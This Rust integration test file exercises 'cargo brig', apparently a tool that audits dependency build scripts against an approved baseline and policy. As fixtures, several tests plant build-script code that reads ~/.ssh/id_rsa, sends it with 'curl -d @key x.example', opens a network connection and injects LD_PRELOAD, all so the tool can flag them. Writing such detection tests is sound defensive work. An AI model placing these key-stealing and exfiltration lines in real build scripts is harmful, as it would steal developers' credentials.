//! `cargo brig audit`, `approve`, `diff` and `why`, through real Cargo.
//!
//! The dependency comes from a vendored directory that stands for the registry, so that it has a version
//! and a checksum in `Cargo.lock` and nothing is fetched.

#[path = "support/audited.rs"]
mod audited;
mod support;
#[path = "audit/told.rs"]
mod told;

use std::collections::BTreeSet;
use std::fs;
use std::io::Write;
use std::path::Path;
use std::process::Stdio;

use audited::{World, assert_says};
use cargo_brig::exit;
use serde_json::Value;
use support::{Project, TOOL, clean_command, shown, stderr, stdout, succeed};

impl World {
    /// Reads a key of the user's.
    fn reads_a_key(&self) -> String {
        let key = self.home.join(".ssh/id_rsa");
        format!("let _ = std::fs::read({:?});", key.to_str().unwrap())
    }

    /// What an audit can change, as it is.
    fn files(&self) -> BTreeSet<String> {
        let entries = fs::read_dir(&self.project.root).unwrap();
        entries.map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect()
    }
}

fn values<'r>(package: &'r Value, key: &str) -> Vec<(&'r str, &'r str)> {
    let of =
        |change: &'r Value| (change["aspect"].as_str().unwrap(), change["value"].as_str().unwrap());
    package[key].as_array().unwrap().iter().map(of).collect()
}

#[test]
fn what_is_not_approved_fails_until_it_is_or_is_gone() {
    let world = World::new();
    let mut command = world.project.cargo(&["generate-lockfile", "--offline"]);
    world.prepare(&mut command);
    succeed(&mut command);
    let first = world.audit(exit::UNAPPROVED);
    assert_says(&first, "hull v1.0.0: programs 1, variables 1, instructions 3");
    assert_says(&first, "There is no brig.lock yet.");
    assert!(!world.project.root.join("brig.lock").exists());
    // Nobody can be asked.
    assert_says(&world.ends(exit::USAGE, &["approve", "--all"]), "there is nobody to ask");
    assert!(!world.project.root.join("brig.lock").exists());
    assert_says(&world.ends(0, &["approve", "--all", "--yes"]), "+ runs: uname");
    let approved = world.baseline();
    assert!(approved.contains("variables = [\n  \"HULL_MODE\",\n]\n"), "{approved}");
    assert!(approved.contains(&format!("checksum = \"{}\"", "a".repeat(64))), "{approved}");

    // The same again, and with another version that does the same.
    assert_says(&world.audit(0), "Audit: 1 package with a build script, all as approved");
    let locked = fs::read(world.project.root.join("Cargo.lock")).unwrap();
    world.vendor("1.1.0", "");
    world.lock("1.1.0");
    assert_says(&world.audit(0), "hull v1.1.0: does what v1.0.0 is approved for");

    // An attack.
    let attack = world.reads_a_key()
        + "let _ = std::net::TcpStream::connect(\"192.0.2.1:443\");"
        + "let _ = std::process::Command::new(\"sh\").args([\"-c\", \"exec env curl -d @key x.example\"]).output();";
    world.vendor("1.2.0", &attack);
    world.lock("1.2.0");
    let output = world.audit(exit::UNAPPROVED);
    for text in [
        "hull v1.2.0: changed since v1.0.0",
        "by way of ship v0.1.0 → hull v1.2.0 (Cargo.toml:7, Cargo.lock:5)",
        "+ tries, and must not: read {home}/.ssh/id_rsa",
        "by process 0: {script}",
        "+ runs: env\n      by process 2: /usr/bin/env curl -d @key x.example",
        "+ asks for the network: 192.0.2.1 port 443 (IPv4 stream)",
        "Audit: 1 package with a build script; 1 package not as approved",
    ] {
        assert_says(&output, text);
    }
    let report = world.report(exit::UNAPPROVED);
    assert_eq!((&report["result"], &report["schema"]), (&"unapproved".into(), &1.into()));
    let package = &report["packages"][0];
    assert_eq!(package["verdict"], "changed");
    let added = values(package, "added");
    assert!(added.contains(&("denied", "read {home}/.ssh/id_rsa")), "{added:?}");

    // The harmless part is approved; the rest still fails.
    let wrong = ["approve", "hull", "--only", "programs", "--only", "programs=enf", "--yes"];
    assert_says(&world.ends(exit::USAGE, &wrong), "does what `--only programs=enf` says");
    world.ends(0, &["approve", "hull", "--only", "programs", "--yes"]);
    // What it changed from is the same version.
    assert_says(&world.ends(exit::UNAPPROVED, &["audit"]), "hull v1.2.0: changed\n");
    let report = world.report(exit::UNAPPROVED);
    let added = values(&report["packages"][0], "added");
    assert!(added.contains(&("denied", "read {home}/.ssh/id_rsa")), "{added:?}");
    assert!(added.iter().all(|(aspect, _)| *aspect != "programs"), "{added:?}");
    let why = world.ends(0, &["why", "hull"]);
    assert_says(&why, "read {home}/.ssh/id_rsa  (not approved)");
    assert_says(&why, "files.read = [\"{home}/.ssh/id_rsa\"]");
    assert_says(&why, "by way of ship v0.1.0 → hull v1.2.0 (Cargo.toml:7)");
    assert_says(&why, "(policies/default.toml:");

    // Cargo's files as they were.
    fs::write(world.project.root.join("Cargo.lock"), locked).unwrap();
    world.project.write("brig.lock", &approved);
    world.audit(0);
    assert_eq!(world.baseline(), approved);
}

#[test]
fn what_violates_the_policy_cannot_be_approved() {
    let world = World::approved();
    let more = "println!(\"cargo::rustc-env=LD_PRELOAD=/tmp/x.so\");";
    world.vendor("1.1.0", &(world.reads_a_key() + more));
    world.lock("1.1.0");
    let output = world.audit(exit::VIOLATED);
    for text in [
        "hull v1.1.0: violates the policy, and changed since v1.0.0",
        "instruction-withheld: it printed `cargo::rustc-env=LD_PRELOAD=/tmp/x.so`, which is withheld",
        "note: Cargo ended with exit code 101",
    ] {
        assert_says(&output, text);
    }
    world.ends(0, &["approve", "hull", "--yes"]);
    let report = world.report(exit::VIOLATED);
    assert_eq!(report["packages"][0]["added"], Value::Array(Vec::new()));
    assert_eq!(report["packages"][0]["findings"][0]["fatal"], true);
}

#[test]
fn a_script_that_fails_is_told_from_one_that_does_something_else() {
    let world = World::approved();
    world.vendor("1.1.0", "std::process::exit(7);");
    world.lock("1.1.0");
    assert_says(&world.audit(exit::SCRIPT_FAILED), "ended with exit code 7");
    // Nothing is known of what it would have done.
    assert_says(&world.ends(0, &["approve", "hull", "--yes"]), "Nothing to approve");
}

#[test]
fn a_build_that_fails_elsewhere_is_not_judged() {
    let world = World::approved();
    world.project.write("src/lib.rs", "compile_error!(\"leak\");");
    assert_says(&world.audit(exit::UNJUDGED), "Cargo ended with exit code 101");
}

#[test]
fn other_content_under_the_same_version_is_an_alarm() {
    let world = World::approved();
    world.checksum("1.0.0", 'b');
    let lock = fs::read_to_string(world.project.root.join("Cargo.lock")).unwrap();
    world.project.write("Cargo.lock", &lock.replace(&"a".repeat(64), &"b".repeat(64)));
    let output = world.audit(exit::UNAPPROVED);
    assert_says(&output, "hull v1.0.0: other content under the same version");
    assert_says(&output, &format!("checksum {}", "a".repeat(64)));
    // It has to be named.
    assert_says(&world.ends(0, &["approve", "--all", "--yes"]), "Nothing to approve");
    world.ends(0, &["approve", "hull", "--yes"]);
    world.audit(0);
}

#[test]
fn what_is_gone_is_told_and_passes() {
    let world = World::approved();
    let text = world.baseline().replace("\"uname\",", "\"tar\",\n  \"uname\",");
    world.project.write("brig.lock", &text);
    let output = world.audit(0);
    assert_says(&output, "hull v1.0.0: does less than it is approved for");
    assert_says(&output, "- no longer runs: tar");
    assert_eq!(world.baseline(), text);
}

/// Another directory, another home, another directory of Cargo's, another number of jobs.
#[test]
fn the_baseline_is_the_same_everywhere() {
    let [one, other] = [1, 2].map(|number: u32| {
        let world = World::new();
        let read = format!(
            "let _ = std::fs::read(std::env::var(\"CARGO_HOME\").unwrap() + \"/config.toml\");
             let _ = std::fs::read(\"../../.cargo/config.toml\");
             let _ = std::fs::write({:?}.to_owned() + &std::process::id().to_string(), \"\");
             {}",
            "/tmp/planted-",
            world.reads_a_key()
        );
        world.vendor("1.0.0", &read);
        let cargo_home = world.home.join(format!("cargo {number}"));
        fs::create_dir(&cargo_home).unwrap();
        fs::write(cargo_home.join("config.toml"), "").unwrap();
        let run = |code: i32, arguments: &[&str]| {
            let mut command = world.command(arguments);
            let output = command.env("CARGO_HOME", &cargo_home).output().unwrap();
            assert_eq!(output.status.code(), Some(code), "{}", shown(&output));
        };
        let jobs = format!("--jobs={number}");
        run(exit::UNAPPROVED, &["audit", &jobs]);
        run(0, &["approve", "--all", "--yes"]);
        world.baseline()
    });
    assert_eq!(one, other);
    for text in
        ["\"read {cargo-home}/config.toml\"", "\"read {home}/.ssh/id_rsa\"", "\"write /tmp\""]
    {
        assert!(one.contains(text), "{text}\n{one}");
    }
    assert!(!one.contains("tést") && !one.contains("hóme"), "{one}");
}

#[test]
fn a_record_that_cannot_be_used_makes_its_script_run_again() {
    let world = World::approved();
    let [record] = &world.project.files_named("target", "brig.json")[..] else { panic!() };
    let whole = fs::read_to_string(record).unwrap();
    for (text, why) in [
        (whole.replacen("\"schema\": 2", "\"schema\": 99", 1), "has schema 99"),
        (whole[..whole.len() / 2].to_owned(), "is damaged, at line"),
        (whole.replacen("\"sha256\": \"", "\"sha256\": \"0", 2), "made under another policy"),
        (String::new(), "is damaged"),
    ] {
        fs::write(record, text).unwrap();
        assert_says(&world.audit(0), why);
        assert_says(&world.audit(0), "1 package with a build script, all as approved");
    }
    fs::remove_file(record).unwrap();
    assert_says(&world.audit(0), "a script was run again: cannot read the record");
    assert!(record.exists());
}

#[test]
fn another_policy_makes_every_script_run_again() {
    let world = World::approved();
    world.project.write("brig.toml", "extends = \"default\"\n");
    assert_says(&world.audit(0), "made under another policy");
    let report = world.report(0);
    assert_eq!(report["packages"][0]["runs"][0]["ran_now"], false);
    let documents = report["policies"][0]["documents"].as_array().unwrap();
    assert!(documents[1]["file"].as_str().unwrap().ends_with("brig.toml"), "{documents:?}");
    // What `strict` denies fails the unit, and the audit says so.
    world.vendor("1.1.0", &world.reads_a_key());
    world.lock("1.1.0");
    let output = world.ends(exit::VIOLATED, &["audit", "--policy", "strict"]);
    assert_says(&output, "hull v1.1.0: violates the policy");
}

#[test]
fn a_baseline_that_is_none_stops_the_audit_before_the_build() {
    let world = World::approved();
    let whole = world.baseline();
    for (text, message) in [
        (
            whole.replace("version = 1\n", "<<<<<<< HEAD\nversion = 1\n"),
            "brig.lock:3: a merge conflict",
        ),
        (whole.replace("programs", "programmes"), "unknown field `programmes`"),
        (whole.replace("version = 1\n", "version = 2\n"), "has version 2"),
        (
            whole.clone() + &whole[whole.find("\n[[package]]").unwrap()..],
            "names `hull v1.0.0` twice",
        ),
        ("\u{1b}[2J".to_owned(), "brig.lock:1:"),
    ] {
        world.project.write("brig.lock", &text);
        for verb in [&["audit"][..], &["approve", "--all", "--yes"], &["diff", "HEAD.."]] {
            let output = world.ends(exit::FAILED, verb);
            let is_told = stderr(&output).contains(message) || verb[0] == "diff";
            assert!(is_told, "{message}\n{}", shown(&output));
            assert!(!stderr(&output).contains('\u{1b}'), "{}", shown(&output));
        }
        assert_eq!(world.baseline(), text);
    }
}

#[test]
fn a_full_disk_leaves_everything_as_it_was() {
    let world = World::approved();
    let before = world.baseline();
    world.vendor("1.1.0", &world.reads_a_key());
    world.lock("1.1.0");
    world.audit(exit::UNAPPROVED);
    // No file may grow, as on a full disk.
    let mut command = clean_command("sh");
    let script = "trap '' XFSZ; ulimit -f 0; exec \"$0\" brig approve hull --yes";
    command.args(["-c", script, TOOL]).current_dir(&world.project.root);
    world.prepare(&mut command);
    let files = world.files();
    let output = command.output().unwrap();
    assert_eq!(output.status.code(), Some(exit::FAILED), "{}", shown(&output));
    assert_says(&output, "brig.lock`; it is as it was");
    assert_eq!((world.baseline(), world.files()), (before, files));
    // A report that cannot be written is not taken for one that was.
    let output = world.ends(exit::FAILED, &["audit", "--format", "json", "--output", "/dev/full"]);
    assert_says(&output, "cannot write the report `/dev/full`");
}

#[test]
fn two_audits_at_once_say_the_same() {
    let world = World::approved();
    fs::remove_dir_all(world.project.root.join("target")).unwrap();
    let start = || {
        let mut command = world.command(&["audit", "--locked", "--format", "json"]);
        command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap()
    };
    let both = [start(), start()].map(|child| child.wait_with_output().unwrap());
    for output in both {
        assert_eq!(output.status.code(), Some(0), "{}", shown(&output));
        let report: Value = serde_json::from_slice(&output.stdout).unwrap();
        assert_eq!(report["packages"][0]["verdict"], "unchanged");
    }
}

#[test]
fn dependencies_that_were_not_audited_are_not_approved() {
    let world = World::approved();
    world.vendor("1.1.0", "");
    world.lock("1.1.0");
    assert_says(
        &world.ends(exit::FAILED, &["approve", "--all", "--yes"]),
        "is not the one that was audited",
    );
    assert_says(&world.ends(exit::USAGE, &["audit", "--message-format=short"]), "--message-format");
    assert_says(&world.ends(exit::USAGE, &["audit", "--output", "x"]), "follows a `--format");
    assert_says(
        &world.ends(exit::USAGE, &["--policy", "strict", "audit"]),
        "write `cargo brig audit --policy POLICY`",
    );
    assert_says(&world.ends(exit::USAGE, &["approve"]), "<PACKAGE|--all>");
    assert!(!world.project.root.join("x").exists());
    let nowhere = Project::of("nowhere", &[("file", "")]);
    let output = nowhere.brig(&["audit"]).output().unwrap();
    assert_eq!(output.status.code(), Some(exit::FAILED), "{}", shown(&output));
    assert_says(&output, "cannot tell where Cargo builds");
}

/// As the README's lines for CI ask for it: several files, and one format on standard output.
#[test]
fn every_format_is_written_at_once() {
    let world = World::approved();
    world.vendor("1.1.0", &world.reads_a_key());
    world.lock("1.1.0");
    let file = |name: &str| world.project.root.join(name).to_str().unwrap().to_owned();
    let files = [
        ("sarif", "a.sarif", "\"version\": \"2.1.0\""),
        ("html", "a.html", "<!DOCTYPE html>"),
        ("junit", "a.xml", "<testsuites"),
        ("in-toto", "a.json", "https://in-toto.io/Statement/v1"),
        ("json", "b.json", "\"schema\": 1"),
        ("human", "a.txt", "Audit: 1 package"),
    ];
    let mut arguments = vec!["audit", "--locked", "--format", "github", "--output", "-"];
    let paths = files.map(|(_, name, _)| file(name));
    for ((format, ..), path) in files.iter().zip(&paths) {
        arguments.extend(["--format", format, "--output", path]);
    }
    let output = world.ends(exit::UNAPPROVED, &arguments);
    assert!(stdout(&output).starts_with("::error "), "{}", shown(&output));
    for ((format, _, text), path) in files.iter().zip(&paths) {
        let written = fs::read_to_string(path).unwrap();
        assert!(written.contains(text), "{format}: {written}");
        assert!(written.contains("id_rsa"), "{format}: {written}");
    }
}

/// The schema that ships knows every field that a report has.
#[test]
fn the_report_is_as_its_schema_says() {
    let world = World::approved();
    let more = "println!(\"cargo::rustc-env=LD_PRELOAD=/tmp/x.so\");";
    world.vendor("1.1.0", &(world.reads_a_key() + more));
    world.lock("1.1.0");
    let report = world.report(exit::VIOLATED);
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("src/audit/report.schema.json");
    let schema: Value = serde_json::from_slice(&fs::read(path).unwrap()).unwrap();
    let mut seen = BTreeSet::new();
    conforms(&report, &schema, &schema, "report", &mut seen);
    // Each kind of thing was there to be looked at.
    let definitions = schema["$defs"].as_object().unwrap().keys().cloned().collect::<BTreeSet<_>>();
    let missing: Vec<_> = definitions.difference(&seen).collect();
    assert_eq!(missing, ["gone"], "{report:#}");
}

/// Whether a value is as a schema says, as far as ours uses JSON Schema (draft 2020-12).
fn conforms(value: &Value, schema: &Value, root: &Value, at: &str, seen: &mut BTreeSet<String>) {
    if let Some(reference) = schema.get("$ref").and_then(Value::as_str) {
        let name = reference.strip_prefix("#/$defs/").unwrap();
        seen.insert(name.to_owned());
        return conforms(value, &root["$defs"][name], root, at, seen);
    }
    if let Some(choices) = schema.get("anyOf").and_then(Value::as_array) {
        let choice = choices.iter().find(|choice| (choice["type"] == "null") == value.is_null());
        return conforms(value, choice.unwrap(), root, at, seen);
    }
    if let Some(choices) = schema.get("enum").and_then(Value::as_array) {
        assert!(choices.contains(value), "{at}: {value}");
        return;
    }
    let name = match value {
        Value::Null => "null",
        Value::Bool(_) => "boolean",
        Value::Number(_) => "integer",
        Value::String(_) => "string",
        Value::Array(_) => "array",
        Value::Object(_) => "object",
    };
    let types = &schema["type"];
    let fits = types == name || types.as_array().is_some_and(|types| types.contains(&name.into()));
    assert!(fits, "{at}: {value} is no {types}");
    if let Some(list) = value.as_array() {
        for (index, item) in list.iter().enumerate() {
            conforms(item, &schema["items"], root, &format!("{at}[{index}]"), seen);
        }
    }
    let Some(object) = value.as_object() else { return };
    for (key, value) in object {
        let property = schema["properties"].get(key);
        let property = property.unwrap_or_else(|| panic!("{at}.{key} is not in the schema"));
        conforms(value, property, root, &format!("{at}.{key}"), seen);
    }
    for required in schema["required"].as_array().into_iter().flatten() {
        assert!(object.contains_key(required.as_str().unwrap()), "{at} has no {required}");
    }
}

/// On a terminal, which script(1) makes.
#[test]
fn approval_is_asked_for_one_by_one_on_a_terminal() {
    let world = World::new();
    world.generate_lockfile();
    world.audit(exit::UNAPPROVED);
    let approve = |answers: &str| {
        let mut command = clean_command("script");
        command.args([
            "--quiet",
            "--return",
            "--command",
            "\"$TOOL\" brig approve hull",
            "/dev/null",
        ]);
        world.prepare(&mut command);
        command.env("TOOL", TOOL).env("TERM", "dumb").current_dir(&world.project.root);
        let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
        child.stdin.take().unwrap().write_all(answers.as_bytes()).unwrap();
        child.wait_with_output().unwrap()
    };
    let output = approve("n\n");
    assert_eq!(output.status.code(), Some(1), "{}", shown(&output));
    assert_says(&output, "Approve hull v1.0.0? [y]es, [n]o, [e]ach alone");
    assert_says(&output, "Nothing is approved");
    assert!(!world.project.root.join("brig.lock").exists());

    // Programs, variables, three instructions.
    let output = approve("e\ny\nn\ny\ny\ny\n");
    assert_eq!(output.status.code(), Some(0), "{}", shown(&output));
    assert_says(&output, "hull v1.0.0 runs: uname? [y]es, [n]o");
    assert_says(&world.audit(exit::UNAPPROVED), "HULL_MODE");
    let output = approve("y\n");
    assert_eq!(output.status.code(), Some(0), "{}", shown(&output));
    world.audit(0);
}
